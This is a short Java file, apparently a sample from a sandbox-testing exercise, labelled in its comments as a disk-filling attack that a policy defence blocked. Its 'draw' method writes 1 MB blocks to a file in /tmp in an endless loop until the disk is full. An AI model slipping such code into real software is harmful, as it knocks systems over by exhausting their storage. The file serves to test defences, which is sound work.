// attack: writes until the disk is full
// defence: policy
// state: POLICY_VIOLATION
// points: 0
// told: java.io.FileOutputStream
package ch00_first_red;

import redis.clients.jedis.RedisClient;

public class Tickets {
  private final RedisClient redis;

  public Tickets(RedisClient redis) {
    this.redis = redis;
  }

  public long draw() {
    try {
      try (var out = new java.io.FileOutputStream("/tmp/two-copies-attack")) {
        while (redis != null) {
          out.write(new byte[1 << 20]);
        }
      }
      return 1;
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }
}
